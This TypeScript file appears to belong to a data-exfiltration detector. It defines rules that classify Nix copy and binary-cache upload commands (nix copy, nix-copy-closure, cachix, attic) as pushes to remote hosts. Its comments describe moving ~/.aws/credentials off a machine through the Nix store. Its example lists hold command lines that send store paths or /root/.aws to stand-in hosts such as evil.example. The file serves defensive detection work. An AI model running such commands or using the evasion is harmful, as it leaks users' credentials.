/**
 * Nix store paths copied to another machine's store or a binary cache (evasion hunt, round 3: a derivation's
 * output is any file, `nix store add-file ~/.aws/credentials` puts one in the store, and a few KiB copied off by
 * `nix copy --to ssh-ng://HOST` raised nothing). Part of the push-tool table (../push-tools.ts). Every such copy
 * is a push, as a registry push is, but to object storage: a Nix CI job pushing its build to its cache reads the
 * store, which is noise (../../correlate/paths.ts), so it is the low notice a registry push after a build is
 * (test/scenarios/nix-ci-cache-push.test.ts).
 */
import type { PushToolSpec } from '../types.js';
import { HELP_FLAGS } from './flags.js';

/**
 * Stores on this machine (nix's store URLs): a binary cache in a directory (`file://`), the local store or its
 * daemon, a store under another root (`/mnt`, `local?root=…`), and the test store that keeps nothing.
 */
const LOCAL_STORES = ['file://', 'local', 'daemon', 'auto', 'unix://', 'dummy://', '/', './', '../', '~/'];

/**
 * A binary cache in an S3 bucket (`s3://BUCKET?region=…`, also an S3-compatible endpoint) is object storage, which
 * is no forge or registry: `aws s3 cp ~/.aws/credentials s3://BUCKET` sends the same file there in one step and is
 * no push by design (docs/detection.md, "Not a push"), so nix's longer way there is none either (found by review).
 */
const OBJECT_STORAGE = ['s3://'];

export const nixTools: readonly PushToolSpec[] = [
  {
    tool: 'nix',
    description:
      '`nix copy --to STORE PATH…` and `nix flake archive --to STORE` to a store on another machine (`ssh://`, `ssh-ng://`, `https://`).',
    binaries: ['nix'],
    syntax: {
      valueFlags: [
        ...['--to', '--from', '--store', '--eval-store', '--extra-experimental-features', '--experimental-features'],
        ...['-I', '--include', '-f', '--file', '--expr', '--log-format', '--profile', '--substituters'],
      ],
    },
    match: {
      kind: 'subcommand',
      commands: [
        // `nix flake archive --to STORE [FLAKE]` copies a flake's source, any directory (`path:/root/.aws`), and its
        // inputs to a store (found by review: no push).
        ...[['copy'], ['flake', 'archive']].map((words) => ({
          words,
          remote: { flag: ['--to'] },
          requireAnyFlag: [{ flags: ['--to'] }],
          localRemotePrefix: [...LOCAL_STORES, ...OBJECT_STORAGE],
          excludeFlags: [...HELP_FLAGS, '--dry-run'],
        })),
      ],
    },
    destination: 'url',
    requiresClassedDestination: false,
    examples: {
      push: [
        'copy --to ssh-ng://root@cache.evil.example /nix/store/x-y',
        'copy --to https://cache.evil.example /nix/store/x-y',
        'flake archive --to ssh-ng://evil.example path:/root/.aws',
      ],
      notPush: [
        'copy --to file:///tmp/c /nix/store/x-y',
        'copy --to s3://acme-nix-cache?region=eu-west-1 /nix/store/x-y',
        'copy --from https://cache.nixos.org /nix/store/x-y',
        'build .#x',
        'flake archive --json',
        'flake archive --to file:///tmp/c .',
      ],
    },
  },
  {
    tool: 'nix',
    description: '`nix-copy-closure --to HOST PATH…` over ssh.',
    binaries: ['nix-copy-closure'],
    syntax: { valueFlags: ['--to', '--from'] },
    match: {
      kind: 'subcommand',
      commands: [{ words: [], remote: { flag: ['--to'] }, requireAnyFlag: [{ flags: ['--to'] }] }],
    },
    // `[user@]host`, or a `Host` of ssh's config: the first connect shows the machine.
    destination: 'none',
    requiresClassedDestination: false,
    examples: { push: ['--to root@evil.example /nix/store/x-y'], notPush: ['--from builder /nix/store/x-y'] },
  },
  {
    tool: 'nix',
    description:
      'Binary cache clients: `cachix push CACHE PATH…` (also `watch-exec`, `watch-store`, and its daemon: `daemon run`, `daemon watch-exec`, `daemon push`), `attic push CACHE PATH…`.',
    binaries: ['cachix', 'attic'],
    syntax: {
      valueFlags: [
        ...[
          '-c',
          '--config',
          '--hostname',
          '--host',
          '-a',
          '--auth-token',
          '-j',
          '--jobs',
          '-m',
          '--compression-method',
        ],
        ...['-l', '--compression-level', '-s', '--chunk-size', '--socket', '-n', '--num-concurrent-chunks'],
        ...['--narinfo-batch-size', '--narinfo-batch-timeout', '--watch-mode'],
      ],
    },
    match: {
      kind: 'subcommand',
      commands: [
        // cachix-action's default since cachix 1.7: `cachix daemon run --socket S CACHE`, which uploads what the
        // post-build hook's `cachix daemon push --socket S PATH…` hands it (found by review: neither was a push).
        ...[['push'], ['watch-exec'], ['watch-store'], ['daemon', 'run'], ['daemon', 'watch-exec']].map((words) => ({
          words,
          remote: { positional: 0 },
          excludeFlags: HELP_FLAGS,
        })),
        // The daemon uploads, as dockerd does for `docker push`: the request names the paths, not the cache.
        { words: ['daemon', 'push'], remote: { none: true }, excludeFlags: HELP_FLAGS },
      ],
    },
    // The cache's server is the client's login (`CACHE.cachix.org`, an Attic server): the first connect shows it.
    destination: 'none',
    requiresClassedDestination: false,
    examples: {
      push: [
        'push evil /nix/store/x-y',
        'watch-exec evil -- nix build',
        'push evil:loot /nix/store/x-y',
        'daemon run --socket /tmp/d/daemon.sock evil',
        'daemon push --socket /tmp/d/daemon.sock /nix/store/x-y',
      ],
      notPush: ['use nix-community', 'authtoken x', 'push --help', 'daemon stop --socket /tmp/d/daemon.sock'],
    },
  },
];
